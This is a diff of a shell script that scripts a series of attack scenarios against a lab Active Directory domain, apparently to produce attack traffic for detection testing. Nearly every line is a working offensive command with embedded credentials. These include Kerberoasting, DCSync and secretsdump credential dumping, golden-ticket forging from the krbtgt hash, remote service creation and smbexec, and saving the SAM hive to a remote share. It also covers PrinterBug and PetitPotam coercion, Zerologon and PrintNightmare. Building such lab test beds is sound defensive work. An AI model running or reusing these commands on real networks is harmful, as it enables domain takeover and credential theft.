@@ -50,7 +50,12 @@ half=1
 scenario user-enumeration+login-spray kerberos_users
 kerberos_users() { agent att kerberos $dc 60; }
 scenario kerberos-roasting+directory-recon user_spns
-user_spns() { imp GetUserSPNs -request -dc-ip $dc lab.example/user1:Lente2026; }
+user_spns() {
+  local cc=$dir/roast
+  echo Lente2026 | KRB5CCNAME=$cc A kinit user1
+  A ldapsearch -x -LLL -H ldap://$dc -D user1@lab.example -w Lente2026 -b DC=lab,DC=example '(&(samAccountType=805306368)(servicePrincipalName=*))' servicePrincipalName
+  for s in HTTP/web MSSQLSvc/db MSSQLSvc/db2 HTTP/intranet TERMSRV/ts1 FTP/lin; do KRB5CCNAME=$cc A kvno -e arcfour-hmac $s.lab.example; done
+}
 scenario credential-theft+directory-recon dcsync
 dcsync() { imp secretsdump -just-dc LAB/Administrator:Winter2026!@$dc; }
 scenario remote-execution+executable-transfer psexec
@@ -59,8 +64,6 @@ scenario remote-execution services_create
 services_create() { imp services LAB/Administrator:Winter2026!@$dc create -name upd -display upd -path 'cmd.exe /c whoami'; imp services root:Zomer2026@$files create -name upd -display upd -path 'cmd.exe /c whoami'; }
 scenario directory-recon samrdump
 samrdump() { imp samrdump LAB/user1:Lente2026@$dc; }
-scenario directory-recon+kerberos-roasting bloodhound
-bloodhound() { cd "$dir" && A "$bin/bloodhound-python" -d lab.example -u user1 -p Lente2026 -ns $dc -dc dc1.lab.example -c All --disable-autogc; }
 scenario directory-recon rpcdump
 rpcdump() { imp rpcdump LAB/user1:Lente2026@$dc; imp rpcmap "ncacn_ip_tcp:$dc[135]"; }
 scenario kerberos-downgrade,credential-theft golden_ticket
@@ -69,11 +72,12 @@ golden_ticket() {
   h=$($ask '(samaccountname=krbtgt)' unicodePwd | sed -n 's/^unicodePwd:: //p' | base64 -d | od -An -tx1 | tr -d ' \n')
   sid=$($ask -s base -b DC=lab,DC=example objectSid | sed -n 's/^objectSid: //p')
   cd "$dir" || return
+  echo Lente2026 | KRB5CCNAME=$dir/ccg at pc1 kinit user1
   imp ticketer -nthash "$h" -domain-sid "$sid" -domain lab.example Administrator
   KRB5CCNAME=$dir/Administrator.ccache imp smbclient -k -no-pass -dc-ip $dc lab.example/Administrator@dc1.lab.example </dev/null
 }
 scenario credential-theft password_set
-password_set() { imp changepasswd -reset -altuser LAB/Administrator -altpass Winter2026! -newpass Nieuw2026 LAB/user9@$dc; }
+password_set() { A rpcclient -U LAB/Administrator%Winter2026! $dc -c "setuserinfo2 user9 23 Nieuw2026"; }
 scenario netlogon-exploit zerologon
 zerologon() { agent att zerologon $dc; }
 half=2
@@ -86,9 +90,9 @@ rpcclient_loop() { for c in enumdomusers enumdomgroups querydominfo lsaquery 'lo
 scenario directory-recon ldap_dump
 ldap_dump() { A ldapsearch -x -H ldap://$dc -D user1@lab.example -w Lente2026 -b DC=lab,DC=example '(objectClass=*)'; A ldapsearch -x -H ldap://$dc -D user1@lab.example -w Lente2026 -b DC=lab,DC=example '(servicePrincipalName=*)' servicePrincipalName; }
 scenario directory-recon ldapdomaindump
-ldapdomaindump() { cd "$dir" && A "$bin/ldapdomaindump" -u 'LAB\user1' -p Lente2026 $dc; }
+ldapdomaindump() { cd "$dir" && A "$bin/ldapdomaindump" -at SIMPLE -u "LAB\\user1" -p Lente2026 $dc; }
 scenario directory-recon+credential-theft certipy
-certipy() { cd "$dir" && A "$bin/certipy" find -u user1@lab.example -p Lente2026 -dc-ip $dc -target dc1.lab.example -ldap-scheme ldap; }
+certipy() { cd "$dir" && A "$bin/certipy" find -u user1@lab.example -p Lente2026 -dc-ip $dc -target dc1.lab.example -scheme ldap -ns $dc; }
 scenario credential-theft+directory-recon dcsync_one
 dcsync_one() { imp secretsdump -just-dc-user Administrator -user-status LAB/Administrator:Winter2026!@$dc; }
 scenario remote-execution smbexec
@@ -101,8 +105,8 @@ scenario credential-theft,directory-recon registry
 registry() { imp reg LAB/Administrator:Winter2026!@$dc query -keyName 'HKLM\SYSTEM\CurrentControlSet\Control\Lsa'; imp reg LAB/Administrator:Winter2026!@$dc save -keyName 'HKLM\SAM' -o '\\10.66.0.66\x'; imp secretsdump LAB/Administrator:Winter2026!@$dc; }
 scenario kerberos-downgrade overpass_hash
 overpass_hash() { cd "$dir" && h=$("$py" -c "from impacket.ntlm import compute_nthash as c; print(c('Lente2026').hex())"); imp getTGT -dc-ip $dc lab.example/user2 -hashes ":$h"; KRB5CCNAME=$dir/user2.ccache imp smbclient -k -no-pass -dc-ip $dc lab.example/user2@dc1.lab.example; }
-scenario forced-authentication coercer
-coercer() { A timeout 100 "$bin/coercer" coerce -t $dc -l $net.66 -u user1 -p Lente2026 -d lab.example --always-continue; }
+scenario forced-authentication printer_bug
+printer_bug() { for h in $files $dc; do agent att printerbug $h $net.66; agent att petitpotam $h $net.66; done; }
 scenario smb-exploit,remote-execution printnightmare
 printnightmare() { agent att printnightmare $dc; agent att printnightmare $files; }
 
